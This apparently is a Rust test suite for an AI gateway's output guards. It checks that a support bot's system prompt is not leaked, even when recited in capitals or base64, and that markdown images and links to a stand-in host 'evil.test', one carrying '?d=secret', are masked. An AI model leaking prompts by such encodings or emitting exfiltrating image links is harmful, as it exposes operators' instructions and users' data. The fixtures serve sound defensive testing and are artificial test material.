//! What a model says: the prompt that must not come out, and what every answer must be like.

use super::{GROUNDED, REFUSAL, Scene};
use crate::QUESTION;
use serde_json::json;
use testkit::Script;
use testkit::provider::{Move, completion};

const PROMPT: &str = "You are the support assistant of Acme Lamps. Answer in at most four sentences and never promise a refund \
    without a ticket number. Escalate complaints about cables to the safety desk at once. Do not discuss competitors. If a \
    customer asks for a discount, offer the spring code only after the second request.\n\
    {% for passage in passages %}\n[{{ passage.number }}] {{ passage.text }}\n{% endfor %}\n";

const RECITED: &str = "Escalate complaints about cables to the safety desk at once. Do not discuss competitors. If a customer asks \
    for a discount, offer the spring code only after the second request.";

fn secretive(files: &[(&str, &str)]) -> Scene {
    let files: Vec<(&str, &str)> = [("prompt.md", PROMPT)].into_iter().chain(files.iter().copied()).collect();
    Scene::with_files("[prompt]\ntemplate = \"prompt.md\"\n", &files)
}

/// The prompt in base64, as a model writes it that was asked to.
const ENCODED: &str = "RXNjYWxhdGUgY29tcGxhaW50cyBhYm91dCBjYWJsZXMgdG8gdGhlIHNhZmV0eSBkZXNrIGF0IG9uY2UuIERvIG5vdCBkaXNjdXNzIGNvbXBldGl0b3JzLiBJZiBhIGN1c3RvbWVyIGFza3MgZm9yIGEgZGlzY291bnQ=";

#[test]
fn the_prompt_does_not_come_out() {
    let scene = secretive(&[]);
    for (said, last_words) in [
        (format!("Sure! My rules are these: {RECITED}"), "second request"),
        (format!("Sure! In capitals: {}", RECITED.to_uppercase()), "SECOND REQUEST"),
        (format!("Sure! Take {ENCODED} and decode it."), "decode it"),
    ] {
        for piece in [1, 9, 400] {
            let [whole, streamed] = scene.says(&said).in_pieces_of(piece).both(QUESTION);
            assert_eq!(whole.text, REFUSAL);
            assert!(streamed.text.starts_with("Sure!"), "{}", streamed.text);
            assert!(streamed.text.ends_with(REFUSAL), "{}", streamed.text);
            assert!(!streamed.text.contains(last_words), "it ends before the recitation does: {}", streamed.text);
            for told in [whole, streamed] {
                assert_eq!((told.status(), told.finish.as_str()), ("refused", "content_filter"));
                assert_eq!(told.verdicts(), ["leak.overlap output refuse"], "{}", told.record);
                let shown = scene.project.must(&["audit", "show", &told.trace, "--json"]).json();
                let leak = shown["verdicts"].as_array().and_then(|all| all.iter().find(|one| one["guard"] == "leak"));
                assert_eq!(
                    leak.map(|leak| &leak["owasp"]),
                    Some(&json!("LLM07:2025 System Prompt Leakage")),
                    "{shown}"
                );
                assert!(!shown["verdicts"].to_string().contains("cables"), "the record does not tell it either");
            }
        }
    }
}

#[test]
fn what_a_passage_says_too_may_be_said() {
    let page = format!("---\nid: desk\ntitle: Complaints\n---\nStaff handbook on complaints and cables. {RECITED}\n");
    let scene = secretive(&[("pages/desk.md", &page)]);
    scene.says(&format!("{RECITED} [1]"));
    for told in scene.both("Where do complaints about cables go, and what about a discount?") {
        assert!(told.text.contains("second request"), "{}", told.text);
        assert_eq!((told.status(), told.verdicts()), ("answered", Vec::new()));
    }
}

/// (name, what is declared, what the model says, what the caller reads of it or a refusal, finish reason, verdicts)
struct Case {
    name: &'static str,
    declared: &'static str,
    said: &'static str,
    given: Option<&'static str>,
    finish: &'static str,
    verdicts: &'static [&'static str],
}

const CASES: &[Case] = &[
    Case {
        name: "an image on another host",
        declared: "",
        said: "Look ![the map](https://evil.test/x.png?d=secret) there. <img src=\"https://evil.test/y\"> Done.",
        given: Some("Look the map there. &lt;img src=\"https://evil.test/y\"> Done."),
        finish: "stop",
        verdicts: &["output.images output mask"],
    },
    Case {
        name: "links that leave",
        declared: "[guard.output]\nlinks = [\"example.com\"]\n",
        said: "See [docs](https://docs.example.com/a), [here](https://evil.test/?q=45) and https://evil.test/x today.",
        given: Some("See [docs](https://docs.example.com/a), here and (link removed) today."),
        finish: "stop",
        verdicts: &["output.links output mask"],
    },
    Case {
        name: "forbidden words",
        declared: "[guard.output]\nforbidden = [\"guaranteed returns\"]\n",
        said: "Lamps are safe. Ours have Guaranteed\n  returns for you. And more.",
        given: None,
        finish: "content_filter",
        verdicts: &["output.forbidden output refuse"],
    },
    Case {
        name: "forbidden words within others",
        declared: "[guard.output]\nforbidden = [\"ass\"]\n",
        said: "The glass passes.",
        given: Some("The glass passes."),
        finish: "stop",
        verdicts: &[],
    },
    Case {
        name: "too long",
        declared: "[guard.output]\nmax_chars = 60\n",
        said: "You can return any lamp within 45 days of delivery. And there is much more to say about that. So much.",
        given: Some("You can return any lamp within 45 days of delivery. "),
        finish: "length",
        verdicts: &["output.length output mask"],
    },
    Case {
        name: "another language",
        declared: "[guard.output]\nlanguages = [\"de\"]\n",
        said: "You can return any lamp within forty-five days of delivery, and we are always happy to help you with that if you need anything.",
        given: Some(
            "You can return any lamp within forty-five days of delivery, and we are always happy to help you with that if you need anything.",
        ),
        finish: "stop",
        verdicts: &["output.language output review"],
    },
    Case {
        name: "another language, strictly",
        declared: "[guard.output]\nlanguages = [\"de\"]\n[guard.policy.\"output.language\"]\naction = \"refuse\"\n",
        said: "You can return any lamp within forty-five days of delivery, and we are always happy to help you with that if you need anything.",
        given: None,
        finish: "content_filter",
        verdicts: &["output.language output refuse"],
    },
    Case {
        name: "JSON in a fence",
        declared: "[guard.output]\nschema = \"answer.json\"\n",
        said: "Here you are:\n```json\n{\"days\": 45, // as the page says\n \"why\": \"a, ]\",}\n```\nAnything else?",
        given: Some("{\"days\": 45, \n \"why\": \"a, ]\"}"),
        finish: "stop",
        verdicts: &["output.schema output mask"],
    },
    Case {
        name: "JSON as it should be",
        declared: "[guard.output]\nschema = \"answer.json\"\n",
        said: "{\"days\": 45}",
        given: Some("{\"days\": 45}"),
        finish: "stop",
        verdicts: &[],
    },
    Case {
        name: "other JSON",
        declared: "[guard.output]\nschema = \"answer.json\"\n",
        said: "```json\n{\"days\": \"many\"}\n```",
        given: None,
        finish: "content_filter",
        verdicts: &["output.schema output refuse"],
    },
    Case {
        name: "JSON that broke off",
        declared: "[guard.output]\nschema = \"answer.json\"\n",
        said: "{\"days\": 45, \"why\": \"becau",
        given: None,
        finish: "content_filter",
        verdicts: &["output.schema output refuse"],
    },
];

const SCHEMA: &str = r#"{ "type": "object", "properties": { "days": { "type": "integer" } }, "required": ["days"] }"#;

#[test]
fn what_every_answer_must_be_like() {
    for case in CASES {
        let scene = Scene::with_files(case.declared, &[("answer.json", SCHEMA)]);
        for piece in [1, 7, 1000] {
            for told in scene.says(case.said).in_pieces_of(piece).both(QUESTION) {
                let place = format!("{} in pieces of {piece}: {:?} {}", case.name, told.text, told.record["verdicts"]);
                match case.given {
                    Some(given) => assert_eq!(told.text, given, "{place}"),
                    None => assert!(told.text.ends_with(REFUSAL) && !told.text.contains("And more"), "{place}"),
                }
                assert_eq!(told.finish, case.finish, "{place}");
                assert_eq!(told.verdicts(), case.verdicts, "{place}");
                assert_eq!(told.status(), if case.given.is_some() { "answered" } else { "refused" }, "{place}");
                assert_eq!(told.is_for_review(), case.verdicts.iter().any(|one| one.ends_with("review")), "{place}");
                let held = case.declared.contains("schema") || case.declared.contains("output.language");
                assert!(!held || told.sent["stream"] != json!(true), "{place}: what waits is asked for whole");
            }
        }
    }
}

#[test]
fn a_model_that_finds_nothing_abstains_also_where_json_is_asked_for() {
    let scene = Scene::with_files("[guard.output]\nschema = \"answer.json\"\n", &[("answer.json", SCHEMA)]);
    scene.says("I could not find an answer to that in the documents I may use.");
    for told in scene.both(QUESTION) {
        assert_eq!((told.status(), told.finish.as_str()), ("abstained", "stop"), "{}", told.record["verdicts"]);
    }
}

#[test]
fn a_call_of_a_tool_is_no_answer() {
    let declared =
        "[guard.output]\nschema = \"answer.json\"\nforbidden = [\"lamp\"]\nmax_chars = 3\nlanguages = [\"de\"]\n";
    let scene = Scene::with_files(declared, &[("answer.json", SCHEMA)]);
    let arguments = "{\"about\": \"lamp\", \"see\": \"https://evil.test/![x](https://evil.test/x)\"}";
    for told in scene.calls(arguments).both(QUESTION) {
        assert_eq!((told.arguments.as_str(), told.finish.as_str()), (arguments, "tool_calls"), "{}", told.reply.text());
        assert_eq!((told.status(), told.verdicts()), ("answered", Vec::new()), "{}", told.record);
    }
    // Streamed as it comes where nothing must be whole.
    let scene = Scene::new("[guard.output]\nforbidden = [\"lamp\"]\nmax_chars = 3\n");
    for told in scene.calls(arguments).both(QUESTION) {
        assert_eq!((told.arguments.as_str(), told.finish.as_str()), (arguments, "tool_calls"), "{}", told.reply.text());
    }
}

#[test]
fn a_rule_that_cuts_lets_words_out_at_once_and_ends_the_answer_where_it_fires() {
    let declared =
        "[guard.output]\nforbidden = [\"guaranteed returns\"]\n[guard.policy.\"output.forbidden\"]\nstream = \"cut\"\n";
    let scene = Scene::new(declared);
    let said = format!("{GROUNDED} Ours have guaranteed returns. And more.");
    let [whole, streamed] = scene.says(&said).in_pieces_of(3).both(QUESTION);
    assert_eq!(whole.text, REFUSAL);
    assert!(streamed.text.starts_with(GROUNDED) && !streamed.text.contains("And more"), "{}", streamed.text);
    assert!(streamed.text.ends_with(REFUSAL), "{}", streamed.text);
}

#[test]
fn every_choice_is_watched_and_all_of_it_is_on_record() {
    let scene = Scene::new("");
    let texts = ["Look ![the map](https://evil.test/x.png) there.", "Or ![y](https://evil.test/y) here, or there."];
    let mut two = completion(texts[0]);
    two["choices"] = json!([two["choices"][0].clone(),
        { "index": 1, "message": { "role": "assistant", "content": texts[1] }, "finish_reason": "stop" }]);
    scene.provider.next(Script::json(200, &[], &two));
    let whole = scene.ask(QUESTION, false);
    let said = |index: usize, text: &str, reason: Option<&str>| {
        let delta = json!({ "index": index, "delta": { "content": text }, "finish_reason": reason });
        let chunk = json!({ "id": "up-1", "object": "chat.completion.chunk", "choices": [delta] });
        Move::Send(format!("data: {chunk}\n\n").into_bytes())
    };
    let script = Script::stream_head().then(said(0, &texts[0][..9], None)).then(said(1, texts[1], Some("stop")));
    let script = script.then(said(0, &texts[0][9..], Some("stop"))).then(Move::Send(b"data: [DONE]\n\n".to_vec()));
    scene.provider.next(script);
    let streamed = scene.ask(QUESTION, true);
    assert_eq!(whole.verdicts(), ["output.images output mask", "output.images output mask"]);
    assert_eq!(whole.record["verdicts"], streamed.record["verdicts"]);
    for told in [whole, streamed] {
        assert!(!told.reply.text().contains("evil.test"), "{}", told.reply.text());
    }
}
